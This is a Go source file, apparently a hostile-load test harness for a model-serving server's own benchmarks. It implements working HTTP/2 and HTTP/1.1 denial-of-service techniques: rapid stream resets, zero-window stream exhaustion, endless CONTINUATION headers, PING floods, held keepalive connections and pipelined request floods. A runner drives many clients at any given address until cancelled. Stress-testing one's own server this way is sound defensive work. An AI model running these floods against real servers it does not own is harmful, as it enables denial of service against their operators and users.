package hostile

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"maps"
	"net"
	"slices"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	"github.com/shivad/shivad/bench/load"
	"github.com/shivad/shivad/server/grpc/pb"
)

// A trick is a use of HTTP that the protocol allows, and that costs a server more than its client.
type trick struct {
	clients int
	holds   bool // send returns, and the connection is held
	// send writes until the server closes the connection. If it returns nil, the connection is held
	// until then. message is a request to a model, framed for gRPC.
	send func(c net.Conn, message []byte) error
}

// tricks by name: at the gRPC door, except keepalive and pipelined, which are at the HTTP door.
var tricks = map[string]trick{
	// Calls that are cancelled at once, as fast as they can be written.
	"resets": {8, false, func(c net.Conn, message []byte) error {
		w := newWriter(c)
		for stream := uint32(1); ; {
			for range 100 {
				w.call(stream, message)
				_ = w.frames.WriteRSTStream(stream, http2.ErrCodeCancel)
				stream += 2
			}
			if err := w.flush(); err != nil {
				return err
			}
		}
	}},
	// As many calls as a connection may have, with no window for their answers.
	"windows": {20, true, func(c net.Conn, message []byte) error {
		w := newWriter(c, http2.Setting{ID: http2.SettingInitialWindowSize})
		for i := range uint32(250) {
			w.call(2*i+1, message)
		}
		return w.flush()
	}},
	// Headers that do not end.
	"continuations": {8, false, func(c net.Conn, _ []byte) error {
		w := newWriter(c)
		_ = w.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.headers(load.GRPCHeaders...)})
		for {
			_ = w.frames.WriteContinuation(1, false, w.headers(hpack.HeaderField{Name: "x-more", Value: "of it"}))
			if w.out.Len() < 16<<10 {
				continue
			}
			if err := w.flush(); err != nil {
				return err
			}
		}
	}},
	// PINGs, each of which must be answered.
	"pings": {8, false, func(c net.Conn, _ []byte) error {
		w := newWriter(c)
		for {
			for range 1000 {
				_ = w.frames.WritePing(false, [8]byte{1})
			}
			if err := w.flush(); err != nil {
				return err
			}
		}
	}},
	// Connections that have had an answer and stay open: as many as a server accepts that may open
	// 20,000 files.
	"keepalive": {2400, true, func(c net.Conn, _ []byte) error {
		_, err := c.Write(live)
		return err
	}},
	// 10,000 requests before the first answer, repeatedly.
	"pipelined": {1, false, func(c net.Conn, _ []byte) error {
		many := bytes.Repeat(live, 10_000)
		for {
			if _, err := c.Write(many); err != nil {
				return err
			}
		}
	}},
}

var live = []byte("GET /v2/health/live HTTP/1.1\r\nHost: x\r\n\r\n")

// Trick runs the clients of a trick against the door at an address until ctx ends. A client whose
// connection is closed connects again. Trick calls ready once, when each client has connected, and
// has sent everything if it holds its connection.
func Trick(ctx context.Context, name string, from *Sources, addr, model string, ready func()) error {
	t, ok := tricks[name]
	if !ok {
		return fmt.Errorf("hostile: %q is no trick; they are %q", name, slices.Sorted(maps.Keys(tricks)))
	}
	ask, err := proto.Marshal(&pb.ModelInferRequest{
		ModelName:        model,
		Inputs:           []*pb.ModelInferRequest_InferInputTensor{{Name: "x", Datatype: "FP32", Shape: []int64{1, 16}}},
		RawInputContents: [][]byte{make([]byte, 16*4)},
	})
	if err != nil {
		return err
	}
	message := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(ask))), ask...)
	var clients, met sync.WaitGroup
	met.Add(t.clients)
	for range t.clients {
		clients.Go(func() {
			first := sync.OnceFunc(met.Done)
			defer first()
			for ctx.Err() == nil {
				t.play(ctx, from, addr, message, first)
			}
		})
	}
	met.Wait()
	ready()
	clients.Wait()
	return nil
}

// play runs one connection until the server closes it or ctx ends. It calls met once connected.
func (t *trick) play(ctx context.Context, from *Sources, addr string, message []byte, met func()) {
	c, err := from.Dial(ctx, addr)
	if err != nil {
		select {
		case <-ctx.Done():
		case <-time.After(10 * time.Millisecond):
		}
		return
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	var reading sync.WaitGroup
	reading.Go(func() {
		_, _ = io.Copy(io.Discard, c) // the server disconnects a client that does not read
		c.Close()
	})
	if !t.holds {
		met()
	}
	if t.send(c, message) != nil {
		c.Close()
	}
	met()
	reading.Wait()
}

// A writer writes frames of HTTP/2.
type writer struct {
	conn       net.Conn
	out, block bytes.Buffer
	frames     *http2.Framer
	fields     *hpack.Encoder
}

// newWriter begins a connection. Writes go to memory, and do not fail.
func newWriter(c net.Conn, settings ...http2.Setting) *writer {
	w := &writer{conn: c}
	w.out.WriteString(http2.ClientPreface)
	w.frames, w.fields = http2.NewFramer(&w.out, nil), hpack.NewEncoder(&w.block)
	_ = w.frames.WriteSettings(settings...)
	return w
}

// headers encodes fields, valid until the next call.
func (w *writer) headers(fields ...hpack.HeaderField) []byte {
	w.block.Reset()
	for _, f := range fields {
		_ = w.fields.WriteField(f)
	}
	return w.block.Bytes()
}

// call writes a gRPC call.
func (w *writer) call(stream uint32, message []byte) {
	_ = w.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: w.headers(load.GRPCHeaders...), EndHeaders: true})
	_ = w.frames.WriteData(stream, true, message)
}

// flush sends everything written so far.
func (w *writer) flush() error {
	_, err := w.conn.Write(w.out.Bytes())
	w.out.Reset()
	return err
}
